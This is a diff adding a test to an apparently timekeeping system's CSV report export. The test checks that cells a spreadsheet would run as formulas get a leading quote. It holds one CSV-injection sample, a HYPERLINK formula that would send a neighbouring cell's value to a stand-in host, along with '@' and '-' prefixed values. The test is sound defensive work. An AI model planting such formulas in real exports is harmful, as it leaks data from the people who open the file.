@@ -133,3 +133,24 @@ def test_pairs_worked_time_matches_the_punches(central: Handle, stored: list[dic
     known = [p for p in stored if p["employee_id"]]
     assert (ins, outs) == (sum(p["kind"] == "in" for p in known), sum(p["kind"] == "out" for p in known))
     assert sum(int(r["worked_min"]) for r in body if r["worked_min"]) == 420 + 239 + 270 + 540
+
+
+def test_a_cell_that_would_run_as_a_formula_is_text(central: Handle, tmp_path: Path) -> None:
+    # CSV injection: a roster name or employee id a spreadsheet would run, written with a ' before it in
+    # both reports; numbers (a negative utc_offset_min) are written as they are
+    evil = '=HYPERLINK("http://x.example/?"&B2,"Alice")'
+    central.store.import_roster_csv(f'badge,employee_id,name\n04A1B2C3,-E9,"{evil.replace(chr(34), 2 * chr(34))}"\n'
+                                    "0A0001,E8,@Bob\n")
+    central.store.add_device("dev-a", "pw")
+    t = ms("2026-03-29 08:00")
+    central.store.store_batch("dev-a", "j1", [
+        {"seq": 1, "badge": "04A1B2C3", "kind": "in", "utc_ms": t, "utc_offset_min": -300, "quality": "synced",
+         "uncertainty_ms": 3, "employee_id": "-E9"},
+        {"seq": 2, "badge": "0A0001", "kind": "in", "utc_ms": t + 1000, "utc_offset_min": -300, "quality": "synced",
+         "uncertainty_ms": 3, "employee_id": "E8"}])
+    _, rows = export(central, tmp_path, "--from", "2026-03-29", "--to", "2026-03-29", "--tz", "Europe/Berlin",
+                     "--columns", "employee_id,name,badge,utc_offset_min")
+    assert rows[1:] == [["'-E9", "'" + evil, "04A1B2C3", "-300"], ["E8", "'@Bob", "0A0001", "-300"]]
+    _, rows = export(central, tmp_path, "--report", "pairs", "--from", "2026-03-29", "--to", "2026-03-29",
+                     "--tz", "Europe/Berlin")
+    assert sorted(r[:2] for r in rows[1:]) == [["'-E9", "'" + evil], ["E8", "'@Bob"]]
